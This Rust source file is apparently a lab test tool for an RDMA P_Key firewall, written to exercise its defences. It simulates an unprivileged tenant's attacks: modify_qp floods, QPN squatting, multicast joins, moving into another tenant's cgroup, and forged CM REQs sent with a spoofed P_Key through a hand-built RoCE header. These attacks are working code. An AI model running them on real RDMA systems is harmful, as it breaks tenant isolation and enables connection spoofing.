//! What a local tenant can do with ibverbs and no privilege, for the
//! soft-RoCE lab's attack scenarios (`pkeyfw lab rxe` runs it as nobody,
//! from beside itself): open a device, make a QP no rule binds, then loop
//! `ibv_modify_qp` giving it other QPs' peers (a modify flood), or attach
//! it to a multicast group; or make and destroy QPs until the QPN it wants
//! comes next; or open a device, then move into another cgroup (a tenant's)
//! and make QPs there; or send a listener CM REQs of its own making, from a
//! UD QP to QP1 or from a UDP socket. Test equipment, never part of pkeyfw.
//! libibverbs is opened at run time by pkeyfw's own opener; only these few
//! calls and the parts of their structures they touch are declared (x86-64
//! layouts of rdma-core's verbs.h).

use std::{
    ffi::{c_int, c_void},
    net::Ipv4Addr,
    process::ExitCode,
    ptr,
};

use anyhow::{Context as _, Result, bail};
use clap::Parser;
use pkeyfw_testkit::cm;

// pkeyfw's dlopen of libibverbs, std, libc and anyhow only: shared, so
// that the product depends on no test code.
#[path = "../../../pkeyfw/src/host/rdma/verbs/libibverbs.rs"]
mod libibverbs;

use libibverbs::{Libibverbs, Ptr};

/// A local tenant's ibverbs moves, for the soft-RoCE lab's attacks.
#[derive(Parser, Debug)]
struct Args {
    /// The RDMA device.
    #[arg(long)]
    device: String,
    /// GID index of the device's RoCE v2 IPv4 GID.
    #[arg(long, default_value_t = 0)]
    gid_index: u8,
    /// Loop this many modifies to RTR on an RC QP, each naming a peer QPN
    /// (cycling through `--qpns` from 0x11, where rxe starts) at `--peer`.
    #[arg(long, requires = "peer")]
    flood: Option<u64>,
    #[arg(long)]
    peer: Option<Ipv4Addr>,
    #[arg(long, default_value_t = 64)]
    qpns: u32,
    /// Claim the next N QPNs of `--squat-device` as peers at `--peer`: learn
    /// its next QPN from a QP made there, make N RC QPs, wait `--bind-ms`
    /// (for a `[[bind]]` rule to bind them), then connect each to one.
    #[arg(long, requires_all = ["peer", "squat_device"])]
    squat: Option<u32>,
    #[arg(long)]
    squat_device: Option<String>,
    #[arg(long, default_value_t = 1000)]
    bind_ms: u64,
    /// Attach a UD QP to these IPv4 multicast groups, in order (the option
    /// given once per group), then wait `--hold-ms`.
    #[arg(long)]
    join: Vec<Ipv4Addr>,
    #[arg(long, default_value_t = 0)]
    hold_ms: u64,
    /// Create this many UD QPs and say how long each `ibv_create_qp` took
    /// (the bench: what pkeyfw's creation probe adds).
    #[arg(long)]
    create: Option<u32>,
    /// Say the QPN the device hands out next (rxe counts up): that of a
    /// QP made and destroyed, plus one.
    #[arg(long)]
    next_qpn: bool,
    /// Make and destroy UD QPs until this QPN is the next the device hands
    /// out, so that the tenant's next QP gets it (a `[[qp]]` entry's); it
    /// must lie ahead of the device's next.
    #[arg(long)]
    advance_to: Option<u32>,
    /// Once the device is open, move into this cgroup (its directory):
    /// what it makes from then on is made by that cgroup's tenant, on a
    /// device opened before.
    #[arg(long)]
    then_cgroup: Option<std::path::PathBuf>,
    /// Send the rdma_cm listener on this port at `--peer` CM REQs made
    /// here, as ib_cm would make them for a connection from `--me`: from a
    /// UD QP to QP1 (the GSI's Q_Key, which rxe lets any UD QP send), and
    /// from a UDP socket with `--forged-pkey` in the BTH.
    #[arg(long, requires_all = ["peer", "me"])]
    cm_req: Option<u16>,
    #[arg(long)]
    me: Option<Ipv4Addr>,
    /// REQs of each kind.
    #[arg(long, default_value_t = 3)]
    count: u32,
    #[arg(long, default_value_t = 0x8001)]
    forged_pkey: u16,
}

fn main() -> ExitCode {
    match run(&Args::parse()) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("pkeyfw-lab-verbs: {e:#}");
            ExitCode::FAILURE
        }
    }
}

fn run(a: &Args) -> Result<()> {
    let lib = Lib::open()?;
    let ctx = lib.open_device(&a.device)?;
    if let Some(cgroup) = &a.then_cgroup {
        let procs = cgroup.join("cgroup.procs");
        std::fs::write(&procs, "0").with_context(|| format!("joining {}", cgroup.display()))?;
    }
    if let Some(n) = a.flood {
        let peer = a.peer.context("--flood needs --peer")?;
        let qp = ctx.qp(QPT_RC)?;
        ctx.to_init(qp, QPT_RC)?;
        let (mut ok, mut failed) = (0u64, 0u64);
        for i in 0..n {
            let remote = 0x11 + (i % u64::from(a.qpns)) as u32;
            match ctx.to_rtr(qp, remote, peer, a.gid_index) {
                0 => ok += 1,
                _ => failed += 1,
            }
        }
        println!("modifies: {ok} succeeded, {failed} failed");
    }
    if let (Some(n), Some(dev), Some(peer)) = (a.squat, &a.squat_device, a.peer) {
        let probe = lib.open_device(dev)?;
        // SAFETY: reading a field of a live QP.
        let next = unsafe { (*probe.qp(QPT_RC)?).qp_num } + 1;
        let qps = (0..n)
            .map(|_| {
                let qp = ctx.qp(QPT_RC)?;
                ctx.to_init(qp, QPT_RC)?;
                Ok(qp)
            })
            .collect::<Result<Vec<_>>>()?;
        std::thread::sleep(std::time::Duration::from_millis(a.bind_ms));
        for (i, &qp) in qps.iter().enumerate() {
            let remote = next + i as u32;
            if ctx.to_rtr(qp, remote, peer, a.gid_index) != 0 {
                bail!("connecting a QP to {remote:#x} at {peer}");
            }
        }
        println!("claimed QPNs {next:#x}..{:#x} at {peer}", next + n);
    }
    if !a.join.is_empty() {
        let qp = ctx.qp(QPT_UD)?;
        ctx.to_init(qp, QPT_UD)?;
        for &group in &a.join {
            let gid = Gid::v4_mapped(group);
            // SAFETY: a live QP of this context and a valid GID.
            let rc = unsafe { (ctx.lib.attach_mcast)(qp, &gid, 0) };
            if rc != 0 {
                bail!(
                    "ibv_attach_mcast({group}): {}",
                    std::io::Error::from_raw_os_error(rc)
                );
            }
            // SAFETY: reading a field of a live QP.
            println!("joined {group} with QP {:#x}", unsafe { (*qp).qp_num });
        }
    }
    if let Some(n) = a.create {
        let mut total = std::time::Duration::ZERO;
        for _ in 0..n {
            let cq = ctx.cq()?;
            let start = std::time::Instant::now();
            ctx.qp_on(cq, QPT_UD)?;
            total += start.elapsed();
        }
        println!(
            "created {n} QPs: {:.1} µs per ibv_create_qp",
            total.as_secs_f64() * 1e6 / f64::from(n.max(1))
        );
    }
    if a.next_qpn {
        println!("{:#x}", ctx.made_and_destroyed(ctx.cq()?)? + 1);
    }
    if let Some(want) = a.advance_to {
        let (cq, mut made, mut last) = (ctx.cq()?, 0, 0);
        loop {
            let qpn = ctx.made_and_destroyed(cq)?;
            made += 1;
            if qpn + 1 == want {
                break;
            }
            // Past it, or wrapped round (it is beyond the device's QPNs).
            if qpn >= want || qpn < last {
                bail!("QPN {qpn:#x} was handed out after {last:#x}: {want:#x} will not come next");
            }
            last = qpn;
        }
        println!("made and destroyed {made} QPs: {want:#x} comes next");
    }
    if let (Some(port), Some(peer), Some(me)) = (a.cm_req, a.peer, a.me) {
        let sent = ctx.cm_reqs(port, peer, me, a.gid_index, a.count)?;
        let forged = socket_reqs(port, peer, me, a.forged_pkey, a.count)?;
        println!("sent {sent} REQs from a UD QP to QP1, {forged} from a UDP socket");
    }
    std::thread::sleep(std::time::Duration::from_millis(a.hold_ms));
    Ok(())
}

/// A REQ for the listener on `port` at `peer`, from `me`, as ib_cm makes
/// rdma_cm's: a fresh communication ID and source port each.
fn forged_req(port: u16, peer: Ipv4Addr, me: Ipv4Addr, i: u32) -> Vec<u8> {
    cm::Request {
        comm_id: 0x0bad_0000 + i,
        src_port: 50_000 + i as u16,
        ..cm::Request::to(me, peer, port)
    }
    .req()
}

/// Sends `count` REQs from a UDP socket on `me` to RoCE's port at `peer`:
/// a BTH and DETH of its own writing (QP1 to QP1, the GSI's Q_Key, P_Key
/// `pkey`), as any process may.
fn socket_reqs(port: u16, peer: Ipv4Addr, me: Ipv4Addr, pkey: u16, count: u32) -> Result<u32> {
    let socket = std::net::UdpSocket::bind((me, 0))?;
    for i in 0..count {
        let frame = cm::gsi(forged_req(port, peer, me, i), pkey, me, peer);
        let bytes = frame.bytes();
        socket.send_to(&bytes[frame.bth_at()..], (peer, 4791))?;
    }
    Ok(count)
}

const QPT_RC: c_int = 2;
const QPT_UD: c_int = 4;

const QP_STATE: c_int = 1;
const QP_ACCESS_FLAGS: c_int = 1 << 3;
const QP_PKEY_INDEX: c_int = 1 << 4;
const QP_PORT: c_int = 1 << 5;
const QP_QKEY: c_int = 1 << 6;
const QP_AV: c_int = 1 << 7;
const QP_PATH_MTU: c_int = 1 << 8;
const QP_RQ_PSN: c_int = 1 << 12;
const QP_MIN_RNR_TIMER: c_int = 1 << 15;
const QP_MAX_DEST_RD_ATOMIC: c_int = 1 << 17;
const QP_DEST_QPN: c_int = 1 << 20;

const QP_SQ_PSN: c_int = 1 << 16;

const STATE_INIT: u32 = 1;
const STATE_RTR: u32 = 2;
const STATE_RTS: u32 = 3;
const MTU_1024: u32 = 3;

/// `union ibv_gid` (8-byte aligned, as its `global` member is).
#[repr(C, align(8))]
#[derive(Copy, Clone, Default)]
struct Gid([u8; 16]);

impl Gid {
    fn v4_mapped(a: Ipv4Addr) -> Gid {
        Gid(a.to_ipv6_mapped().octets())
    }
}

#[repr(C)]
#[derive(Default)]
struct QpCap {
    max_send_wr: u32,
    max_recv_wr: u32,
    max_send_sge: u32,
    max_recv_sge: u32,
    max_inline_data: u32,
}

#[repr(C)]
struct QpInitAttr {
    qp_context: *mut c_void,
    send_cq: *mut c_void,
    recv_cq: *mut c_void,
    srq: *mut c_void,
    cap: QpCap,
    qp_type: c_int,
    sq_sig_all: c_int,
}

#[repr(C)]
#[derive(Default)]
struct GlobalRoute {
    dgid: Gid,
    flow_label: u32,
    sgid_index: u8,
    hop_limit: u8,
    traffic_class: u8,
}

#[repr(C)]
#[derive(Default)]
struct AhAttr {
    grh: GlobalRoute,
    dlid: u16,
    sl: u8,
    src_path_bits: u8,
    static_rate: u8,
    is_global: u8,
    port_num: u8,
}

#[repr(C)]
#[derive(Default)]
struct QpAttr {
    qp_state: u32,
    cur_qp_state: u32,
    path_mtu: u32,
    path_mig_state: u32,
    qkey: u32,
    rq_psn: u32,
    sq_psn: u32,
    dest_qp_num: u32,
    qp_access_flags: u32,
    cap: QpCap,
    ah_attr: AhAttr,
    alt_ah_attr: AhAttr,
    pkey_index: u16,
    alt_pkey_index: u16,
    en_sqd_async_notify: u8,
    sq_draining: u8,
    max_rd_atomic: u8,
    max_dest_rd_atomic: u8,
    min_rnr_timer: u8,
    port_num: u8,
    timeout: u8,
    retry_cnt: u8,
    rnr_retry: u8,
    alt_port_num: u8,
    alt_timeout: u8,
    rate_limit: u32,
}

/// The head of `struct ibv_qp`, up to the QP number.
#[repr(C)]
struct Qp {
    _pointers: [*mut c_void; 6],
    _handle: u32,
    qp_num: u32,
}

// verbs.h's sizes, so that a wrong declaration fails the build, not a run.
const _: () = {
    assert!(size_of::<SendWr>() == 128);
    assert!(std::mem::offset_of!(SendWr, ah) == 40);
    assert!(size_of::<Wc>() == 48);
    assert!(std::mem::offset_of!(Mr, lkey) == 36);
    assert!(size_of::<QpInitAttr>() == 64);
    assert!(size_of::<AhAttr>() == 32);
    assert!(size_of::<QpAttr>() == 144);
    assert!(std::mem::offset_of!(QpAttr, ah_attr) == 56);
    assert!(std::mem::offset_of!(QpAttr, pkey_index) == 120);
    assert!(std::mem::offset_of!(Qp, qp_num) == 52);
};

/// `struct ibv_sge`.
#[repr(C)]
struct Sge {
    addr: u64,
    length: u32,
    lkey: u32,
}

/// `struct ibv_send_wr`, a UD send: the parts before `wr.ud`, `wr.ud`, and
/// the rest (unused) as padding.
#[repr(C)]
struct SendWr {
    wr_id: u64,
    next: *mut SendWr,
    sg_list: *mut Sge,
    num_sge: c_int,
    opcode: c_int,
    send_flags: u32,
    imm_data: u32,
    ah: Ptr,
    remote_qpn: u32,
    remote_qkey: u32,
    _rest: [u64; 9],
}

/// `struct ibv_wc`.
#[repr(C)]
#[derive(Default)]
struct Wc {
    wr_id: u64,
    status: c_int,
    opcode: c_int,
    vendor_err: u32,
    byte_len: u32,
    imm_data: u32,
    qp_num: u32,
    src_qp: u32,
    wc_flags: u32,
    pkey_index: u16,
    slid: u16,
    sl: u8,
    dlid_path_bits: u8,
}

/// The head of `struct ibv_mr`, up to its local key.
#[repr(C)]
struct Mr {
    _context: Ptr,
    _pd: Ptr,
    _addr: Ptr,
    _length: usize,
    _handle: u32,
    lkey: u32,
}

/// Where `struct ibv_context` keeps the provider's `poll_cq` and
/// `post_send` (its `ops`, after the device pointer): ibv_poll_cq and
/// ibv_post_send are inline functions of verbs.h, not symbols.
const OPS_POLL_CQ: usize = 8 + 11 * 8;
const OPS_POST_SEND: usize = 8 + 25 * 8;
type PollCq = unsafe extern "C" fn(Ptr, c_int, *mut Wc) -> c_int;
type PostSend = unsafe extern "C" fn(*mut Qp, *mut SendWr, *mut *mut SendWr) -> c_int;

const WR_SEND: c_int = 2;
const SEND_SIGNALED: u32 = 1 << 1;
/// The GSI's Q_Key, which rxe puts in whatever DETH a WR names.
const GSI_QKEY: u32 = 0x8001_0000;

/// The libibverbs functions used (plain function pointers: copied into
/// each open device).
#[derive(Clone, Copy)]
struct Lib {
    ibverbs: Libibverbs,
    alloc_pd: unsafe extern "C" fn(Ptr) -> Ptr,
    create_cq: unsafe extern "C" fn(Ptr, c_int, Ptr, Ptr, c_int) -> Ptr,
    create_qp: unsafe extern "C" fn(Ptr, *mut QpInitAttr) -> *mut Qp,
    modify_qp: unsafe extern "C" fn(*mut Qp, *mut QpAttr, c_int) -> c_int,
    destroy_qp: unsafe extern "C" fn(*mut Qp) -> c_int,
    attach_mcast: unsafe extern "C" fn(*mut Qp, *const Gid, u16) -> c_int,
    reg_mr: unsafe extern "C" fn(Ptr, *mut c_void, usize, c_int) -> *mut Mr,
    create_ah: unsafe extern "C" fn(Ptr, *mut AhAttr) -> Ptr,
}

impl Lib {
    fn open() -> Result<Lib> {
        let ibverbs = Libibverbs::open()?;
        // SAFETY: each field's type is its symbol's C signature (verbs.h).
        unsafe {
            Ok(Lib {
                ibverbs,
                alloc_pd: ibverbs.sym(c"ibv_alloc_pd")?,
                create_cq: ibverbs.sym(c"ibv_create_cq")?,
                create_qp: ibverbs.sym(c"ibv_create_qp")?,
                modify_qp: ibverbs.sym(c"ibv_modify_qp")?,
                destroy_qp: ibverbs.sym(c"ibv_destroy_qp")?,
                attach_mcast: ibverbs.sym(c"ibv_attach_mcast")?,
                reg_mr: ibverbs.sym(c"ibv_reg_mr")?,
                create_ah: ibverbs.sym(c"ibv_create_ah")?,
            })
        }
    }

    /// Device `name`, opened, with a protection domain.
    fn open_device(self, name: &str) -> Result<Context> {
        let ctx = self.ibverbs.open_device(name)?;
        // SAFETY: an open context.
        let pd = unsafe { (self.alloc_pd)(ctx) };
        if pd.is_null() {
            bail!("ibv_alloc_pd({name}): {}", std::io::Error::last_os_error());
        }
        Ok(Context { lib: self, ctx, pd })
    }
}

/// An open device with a protection domain.
struct Context {
    lib: Lib,
    ctx: Ptr,
    pd: Ptr,
}

impl Context {
    fn qp(&self, qp_type: c_int) -> Result<*mut Qp> {
        self.qp_on(self.cq()?, qp_type)
    }

    fn cq(&self) -> Result<Ptr> {
        // SAFETY: an open context; no completion channel.
        let cq = unsafe { (self.lib.create_cq)(self.ctx, 16, ptr::null_mut(), ptr::null_mut(), 0) };
        if cq.is_null() {
            bail!("ibv_create_cq: {}", std::io::Error::last_os_error());
        }
        Ok(cq)
    }

    /// A QP whose send and receive completions go to `cq`.
    fn qp_on(&self, cq: Ptr, qp_type: c_int) -> Result<*mut Qp> {
        let mut attr = QpInitAttr {
            qp_context: ptr::null_mut(),
            send_cq: cq,
            recv_cq: cq,
            srq: ptr::null_mut(),
            cap: QpCap {
                max_send_wr: 4,
                max_recv_wr: 1,
                max_send_sge: 1,
                max_recv_sge: 1,
                max_inline_data: 0,
            },
            qp_type,
            sq_sig_all: 0,
        };
        // SAFETY: a valid PD and attributes.
        let qp = unsafe { (self.lib.create_qp)(self.pd, &mut attr) };
        if qp.is_null() {
            bail!("ibv_create_qp: {}", std::io::Error::last_os_error());
        }
        Ok(qp)
    }

    /// Makes a UD QP on `cq` and destroys it; its number.
    fn made_and_destroyed(&self, cq: Ptr) -> Result<u32> {
        let qp = self.qp_on(cq, QPT_UD)?;
        // SAFETY: a live QP, read and then destroyed once.
        let (qpn, rc) = unsafe { ((*qp).qp_num, (self.lib.destroy_qp)(qp)) };
        if rc != 0 {
            bail!("ibv_destroy_qp: {}", std::io::Error::from_raw_os_error(rc));
        }
        Ok(qpn)
    }

    fn modify(&self, qp: *mut Qp, mut attr: QpAttr, mask: c_int) -> c_int {
        // SAFETY: a live QP and valid attributes.
        unsafe { (self.lib.modify_qp)(qp, &mut attr, mask) }
    }

    fn to_init(&self, qp: *mut Qp, qp_type: c_int) -> Result<()> {
        let attr = QpAttr {
            qp_state: STATE_INIT,
            port_num: 1,
            qkey: 0x1111_1111,
            ..QpAttr::default()
        };
        let kind = if qp_type == QPT_UD {
            QP_QKEY
        } else {
            QP_ACCESS_FLAGS
        };
        match self.modify(qp, attr, QP_STATE | QP_PKEY_INDEX | QP_PORT | kind) {
            0 => Ok(()),
            rc => bail!("modify to INIT: {}", std::io::Error::from_raw_os_error(rc)),
        }
    }

    /// Sends `count` REQs for the listener on `port` at `peer` from a UD
    /// QP to QP1, each when the last is sent; how many were.
    fn cm_reqs(
        &self,
        port: u16,
        peer: Ipv4Addr,
        me: Ipv4Addr,
        gid_index: u8,
        n: u32,
    ) -> Result<u32> {
        let cq = self.cq()?;
        let qp = self.qp_on(cq, QPT_UD)?;
        self.to_init(qp, QPT_UD)?;
        let rtr = QpAttr {
            qp_state: STATE_RTR,
            ..QpAttr::default()
        };
        let rts = QpAttr {
            qp_state: STATE_RTS,
            sq_psn: 1,
            ..QpAttr::default()
        };
        if self.modify(qp, rtr, QP_STATE) != 0 || self.modify(qp, rts, QP_STATE | QP_SQ_PSN) != 0 {
            bail!("moving a UD QP to RTS: {}", std::io::Error::last_os_error());
        }
        let mut buf = vec![0u8; cm::MAD_LEN];
        // SAFETY: a live PD and a buffer that outlives the MR (leaked with
        // the process).
        let mr = unsafe { (self.lib.reg_mr)(self.pd, buf.as_mut_ptr().cast(), buf.len(), 0) };
        let mut ah_attr = AhAttr {
            grh: GlobalRoute {
                dgid: Gid::v4_mapped(peer),
                sgid_index: gid_index,
                hop_limit: 64,
                ..GlobalRoute::default()
            },
            is_global: 1,
            port_num: 1,
            ..AhAttr::default()
        };
        // SAFETY: a live PD and attributes.
        let ah = unsafe { (self.lib.create_ah)(self.pd, &mut ah_attr) };
        if mr.is_null() || ah.is_null() {
            bail!(
                "ibv_reg_mr / ibv_create_ah: {}",
                std::io::Error::last_os_error()
            );
        }
        // SAFETY: the context's ops, as verbs.h lays them out.
        let (post, poll): (PostSend, PollCq) = unsafe {
            let ops = self.ctx.cast::<u8>();
            (
                *ops.add(OPS_POST_SEND).cast::<PostSend>(),
                *ops.add(OPS_POLL_CQ).cast::<PollCq>(),
            )
        };
        let mut sent = 0;
        for i in 0..n {
            buf.copy_from_slice(&forged_req(port, peer, me, i));
            let mut sge = Sge {
                addr: buf.as_ptr() as u64,
                length: buf.len() as u32,
                // SAFETY: a registered MR.
                lkey: unsafe { (*mr).lkey },
            };
            let mut wr = SendWr {
                wr_id: u64::from(i),
                next: ptr::null_mut(),
                sg_list: &mut sge,
                num_sge: 1,
                opcode: WR_SEND,
                send_flags: SEND_SIGNALED,
                imm_data: 0,
                ah,
                remote_qpn: 1,
                remote_qkey: GSI_QKEY,
                _rest: [0; 9],
            };
            let mut bad = ptr::null_mut();
            // SAFETY: a live QP in RTS, a WR of verbs.h's layout.
            let rc = unsafe { post(qp, &mut wr, &mut bad) };
            if rc != 0 {
                bail!("ibv_post_send: {}", std::io::Error::from_raw_os_error(rc));
            }
            let mut wc = Wc::default();
            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
            // SAFETY: a live CQ and one completion's room.
            while unsafe { poll(cq, 1, &mut wc) } == 0 && std::time::Instant::now() < deadline {}
            sent += u32::from(wc.status == 0);
        }
        Ok(sent)
    }

    /// One modify to RTR naming `remote` at `peer`; its return code.
    fn to_rtr(&self, qp: *mut Qp, remote: u32, peer: Ipv4Addr, gid_index: u8) -> c_int {
        let attr = QpAttr {
            qp_state: STATE_RTR,
            path_mtu: MTU_1024,
            dest_qp_num: remote,
            max_dest_rd_atomic: 1,
            min_rnr_timer: 12,
            ah_attr: AhAttr {
                grh: GlobalRoute {
                    dgid: Gid::v4_mapped(peer),
                    sgid_index: gid_index,
                    hop_limit: 1,
                    ..GlobalRoute::default()
                },
                is_global: 1,
                port_num: 1,
                ..AhAttr::default()
            },
            ..QpAttr::default()
        };
        self.modify(
            qp,
            attr,
            QP_STATE
                | QP_AV
                | QP_PATH_MTU
                | QP_DEST_QPN
                | QP_RQ_PSN
                | QP_MAX_DEST_RD_ATOMIC
                | QP_MIN_RNR_TIMER,
        )
    }
}
